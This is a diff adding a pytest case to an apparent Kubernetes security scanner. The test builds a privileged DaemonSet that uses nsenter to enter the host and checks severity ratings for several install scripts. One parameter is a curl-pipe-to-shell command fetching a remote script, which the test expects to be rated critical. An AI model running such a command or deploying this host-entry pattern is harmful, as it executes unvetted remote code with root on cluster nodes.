@@ -376,6 +376,45 @@ def test_privilege_that_is_not_node_maintenance_stays_critical(tmp_path, text):
     assert _severities(found, "K8S017", f"{kind}/module-guard") == [Severity.CRITICAL]
 
 
+# a node installer: a DaemonSet in the product's own namespace (no system placement) whose init
+# container enters PID 1's mount namespace to install a package on every node (Longhorn's
+# cifs/NFS/iSCSI prerequisites, held-out set 8)
+INSTALLER = """\
+apiVersion: apps/v1
+kind: DaemonSet
+metadata: {name: cifs-installation, namespace: storage-system}
+spec:
+  template:
+    spec:
+      hostNetwork: true
+      hostPID: true
+      initContainers:
+        - name: install
+          image: alpine:3.20
+          command: [nsenter, --mount=/proc/1/ns/mnt, --, bash, -c, "%(script)s"]
+          securityContext: {privileged: true}
+      containers:
+        - {name: sleep, image: registry.k8s.io/pause:3.10}
+"""
+
+
+@pytest.mark.parametrize(("script", "severity"), [
+    ("apt-get update -q -y && sudo apt-get install -q -y cifs-utils", Severity.MEDIUM),
+    ("zypper -q install -y open-iscsi", Severity.MEDIUM),
+    ("semodule -vi local_longhorn.cil", Severity.MEDIUM),
+    ("modprobe iscsi_tcp", Severity.MEDIUM),
+    # entering the host to run something else is not a node installer: host root, judged as any workload
+    ("curl -fsSL https://example.com/agent.sh | sh", Severity.CRITICAL),
+])
+def test_a_daemonset_installing_on_the_host_through_nsenter_is_node_maintenance(tmp_path, script, severity):
+    write(tmp_path, "deploy/prerequisite/installer.yaml", INSTALLER % {"script": script})
+    found = _scan(tmp_path)
+    assert _severities(found, "K8S012", "DaemonSet/cifs-installation/container/install") == [severity]
+    if severity == Severity.MEDIUM:
+        assert "enters the host's namespaces (nsenter)" in found[
+            ("K8S012", "DaemonSet/cifs-installation/container/install")][0].message
+
+
 BOOTSTRAP = """\
 apiVersion: batch/v1
 kind: Job
